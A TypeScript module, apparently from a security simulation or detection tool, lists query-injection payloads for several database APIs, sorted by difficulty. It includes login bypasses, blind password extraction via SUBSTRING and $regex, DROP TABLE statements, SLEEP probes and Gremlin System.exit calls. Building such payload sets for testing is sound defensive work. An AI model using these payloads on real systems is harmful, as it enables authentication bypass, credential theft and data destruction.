import type { Api } from '../../telemetry/event';
import type { Difficulty } from '../incidents/incident';

type Texts = Readonly<Record<Difficulty, readonly string[]>>;

/** What comes out of a text that an application builds from its visitor's words. */
export const STEALING: Readonly<Record<Api, Texts>> = {
  nosql: {
    easy: [
      "SELECT * FROM c WHERE c.PROPERTY = '' OR 1=1 --'",
      "SELECT * FROM c WHERE c.PROPERTY = 'x' OR 'a'='a'",
      "SELECT * FROM c WHERE c.PROPERTY = 'x' OR true OR c.PROPERTY = ''",
    ],
    medium: [
      "SELECT * FROM c WHERE c.PROPERTY = 'A-1' OR c.PROPERTY != 'A-1' AND 'b'='b'",
      "SELECT * FROM c WHERE c.PROPERTY = '' OR IS_DEFINED(c.id) OR c.PROPERTY = ''",
    ],
    hard: [
      "SELECT * FROM c WHERE c.PROPERTY = 'A-1' AND SUBSTRING(c.password, 0, 1) = 'a' AND '1'='1'",
      "SELECT * FROM c WHERE c.PROPERTY = '' OR LENGTH(c.id) > 0 OR c.PROPERTY = ''",
    ],
  },
  mongodb: {
    easy: ['{"find":"CONTAINER","filter":{"username":{"$ne":null},"password":{"$ne":null}}}'],
    medium: ['{"find":"CONTAINER","filter":{"username":"admin","password":{"$gt":""}}}'],
    hard: ['{"find":"CONTAINER","filter":{"username":"admin","password":{"$regex":"^a.*"}}}'],
  },
  cassandra: { easy: [], medium: [], hard: [] },
  gremlin: {
    easy: ["g.V().has('PROPERTY', 'x').or(__.has('id'), __.hasNot('zz'))//').limit(20)"],
    medium: ["g.V().has('PROPERTY', 'x').fold().coalesce(unfold(), V())//')"],
    hard: ["g.V().has('PROPERTY', 'x').union(__.identity(), __.V().valueMap())//').limit(20)"],
  },
  table: {
    easy: ["PROPERTY eq 'x' or 1 eq 1 or PROPERTY eq ''"],
    medium: ["PROPERTY eq '' or PROPERTY ne ''"],
    hard: ["PROPERTY eq 'x' or PartitionKey ge ''"],
  },
};

/** What a fuzzer sends: it breaks the statement. */
export const FUZZING: Readonly<Record<Api, readonly string[]>> = {
  nosql: [
    "SELECT * FROM c WHERE c.PROPERTY = '''",
    "SELECT * FROM c WHERE c.PROPERTY = '' UNION SELECT NULL, NULL --'",
    "SELECT * FROM c WHERE c.PROPERTY = '1'; DROP TABLE users --'",
    "SELECT * FROM c WHERE c.PROPERTY = '' AND SLEEP(5) --'",
    "SELECT * FROM c WHERE c.PROPERTY = '') OR ('1'='1'",
  ],
  mongodb: [
    `{"find":"CONTAINER","filter":{"$where":"this.PROPERTY == ''; sleep(5000) //'"}}`,
    '{"find":"CONTAINER","filter":{"PROPERTY":{"$foo":1}}}',
    `{"find":"CONTAINER","filter":{"$where":"1==1'\\"\`{"}}`,
  ],
  cassandra: [
    "SELECT * FROM TABLE WHERE PROPERTY = '' OR '1'='1'",
    "SELECT * FROM TABLE WHERE PROPERTY = ''; DROP TABLE users; --'",
    "SELECT * FROM TABLE WHERE PROPERTY = '' UNION SELECT * FROM system.local --'",
  ],
  gremlin: [
    "g.V().has('PROPERTY', ''').limit(20)",
    "g.V().has('PROPERTY', 'x').drop()).limit(20)",
    "g.V().has('PROPERTY', '');System.exit(0)//').limit(20)",
  ],
  table: ["PROPERTY eq '''", "PROPERTY eq '' or 1=1--'", "PROPERTY eq 'x') or ('1' eq '1'"],
};
